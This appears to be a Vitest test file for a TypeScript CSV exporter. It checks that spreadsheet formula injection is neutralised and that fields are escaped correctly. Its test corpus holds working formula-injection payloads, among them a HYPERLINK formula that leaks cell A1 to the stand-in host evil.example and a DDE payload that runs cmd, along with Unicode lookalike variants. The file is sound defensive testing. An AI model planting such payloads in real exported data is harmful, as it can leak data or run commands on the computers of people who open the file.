import { describe, expect, it } from "vitest";
import {
  type CsvColumn,
  escapeCsvField,
  formatCsvHeader,
  formatCsvRecord,
  neutraliseFormula,
} from "./csv.ts";

interface Row {
  id: number;
  title: string;
  score: string;
}
const COLUMNS: CsvColumn<Row>[] = [
  { header: "id", value: (row) => row.id },
  { header: "title", value: (row) => row.title, text: true },
  { header: "score", value: (row) => row.score },
];

describe("neutraliseFormula", () => {
  it.each([
    ['=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'],
    ["+1", "'+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\tcmd", "'\tcmd"],
    ["\rcmd", "'\rcmd"],
  ])("prefixes %j with a single quote", (input, expected) => {
    expect(neutraliseFormula(input)).toBe(expected);
  });

  it("leaves ordinary text, inner triggers and the empty string alone", () => {
    expect(neutraliseFormula("Kind of Blue")).toBe("Kind of Blue");
    expect(neutraliseFormula("A=B+C")).toBe("A=B+C");
    expect(neutraliseFormula("")).toBe("");
  });
});

// Spreadsheet formula-injection payloads as they arrive in titles, artists and genres: the
// OWASP "CSV Injection" list, their fullwidth and small/superscript twins (which Unicode's
// NFKC normalisation turns into the ASCII characters), and separators a semicolon-locale
// spreadsheet splits on. Each maps to the exact field the file must contain.
const INJECTION_CORPUS: Array<[input: string, field: string]> = [
  ["=1+1", "'=1+1"],
  [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
  ],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["+SUM(1,2)", '"\'+SUM(1,2)"'],
  ["-2+3", "'-2+3"],
  ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
  ["\t=1+1", "'\t=1+1"],
  ["\r=1+1", '"\'\r=1+1"'],
  ["＝1+1", "'＝1+1"],
  ['＝HYPERLINK("http://evil.example")', '"\'＝HYPERLINK(""http://evil.example"")"'],
  ["＋1", "'＋1"],
  ["－1", "'－1"],
  ["＠SUM(A1)", "'＠SUM(A1)"],
  ["﹦1+1", "'﹦1+1"],
  ["﹢1", "'﹢1"],
  ["﹣1", "'﹣1"],
  ["﹫SUM(A1)", "'﹫SUM(A1)"],
  ["⁼1", "'⁼1"],
  ["₌1", "'₌1"],
  ["⁺1", "'⁺1"],
  ["₊1", "'₊1"],
  ["﬩1", "'﬩1"],
  ["⩵1", "'⩵1"],
  ["⩶1", "'⩶1"],
  ["=1;2", '"\'=1;2"'],
  ["＝1;＝2", '"\'＝1;＝2"'],
  ["Rock; Pop", '"Rock; Pop"'],
  ["a;b,c", '"a;b,c"'],
  // Not a formula: the trigger is not the first character, or the character only looks alike.
  ["A=B+C", "A=B+C"],
  [" =1+1", " =1+1"],
  ["\u2212 1", "\u2212 1"],
  ["Kind of Blue", "Kind of Blue"],
  ["", ""],
];

describe("text fields against an injection corpus", () => {
  const column: CsvColumn<{ text: string }>[] = [{ header: "title", value: (row) => row.text, text: true }];

  it.each(INJECTION_CORPUS)("writes %j as %j", (input, field) => {
    expect(formatCsvRecord(column, { text: input })).toBe(`${field}\r\n`);
  });

  it("neutralises exactly the characters that NFKC turns into a formula trigger", () => {
    // Ties the explicit list in csv.ts to Unicode's own data as this Node.js carries it.
    const mismatches: string[] = [];
    for (let codePoint = 0; codePoint <= 0x10ffff; codePoint++) {
      if (codePoint >= 0xd800 && codePoint <= 0xdfff) continue;
      const character = String.fromCodePoint(codePoint);
      const first = character.normalize("NFKC")[0];
      const trigger = first !== undefined && "=+-@\t\r".includes(first);
      const text = `${character}1`;
      if ((neutraliseFormula(text) === `'${text}`) !== trigger) {
        mismatches.push(`U+${codePoint.toString(16).toUpperCase()}`);
      }
    }
    expect(mismatches).toEqual([]);
  });
});

describe("escapeCsvField", () => {
  it("quotes commas, quotes, CR and LF and doubles inner quotes", () => {
    expect(escapeCsvField("a,b")).toBe('"a,b"');
    expect(escapeCsvField('say "hi"')).toBe('"say ""hi"""');
    expect(escapeCsvField("line\nbreak")).toBe('"line\nbreak"');
    expect(escapeCsvField("cr\rhere")).toBe('"cr\rhere"');
    expect(escapeCsvField("plain")).toBe("plain");
  });

  it("quotes a semicolon, the list separator of semicolon-locale spreadsheets", () => {
    expect(escapeCsvField("Rock;Pop")).toBe('"Rock;Pop"');
    expect(formatCsvHeader([{ header: "a;b", value: () => "" }])).toBe('"a;b"\r\n');
  });
});

describe("formatCsvRecord", () => {
  it("writes CRLF-terminated records with the header first", () => {
    expect(formatCsvHeader(COLUMNS)).toBe("id,title,score\r\n");
    expect(formatCsvRecord(COLUMNS, { id: 7, title: "Blue, Train", score: "4.1000" })).toBe(
      '7,"Blue, Train",4.1000\r\n',
    );
  });

  it("neutralises text columns but never computed numeric columns", () => {
    expect(formatCsvRecord(COLUMNS, { id: -1, title: "=1+1", score: "-0.5000" })).toBe(
      "-1,'=1+1,-0.5000\r\n",
    );
  });

  it("neutralises before quoting so a formula with a comma stays one quoted cell", () => {
    expect(formatCsvRecord(COLUMNS, { id: 1, title: '=HYPERLINK("http://x","y")', score: "1" })).toBe(
      '1,"\'=HYPERLINK(""http://x"",""y"")",1\r\n',
    );
  });

  it("writes null and undefined as empty fields", () => {
    const columns: CsvColumn<{ a: string | null }>[] = [
      { header: "a", value: (row) => row.a, text: true },
      { header: "b", value: () => undefined },
    ];
    expect(formatCsvRecord(columns, { a: null })).toBe(",\r\n");
  });
});
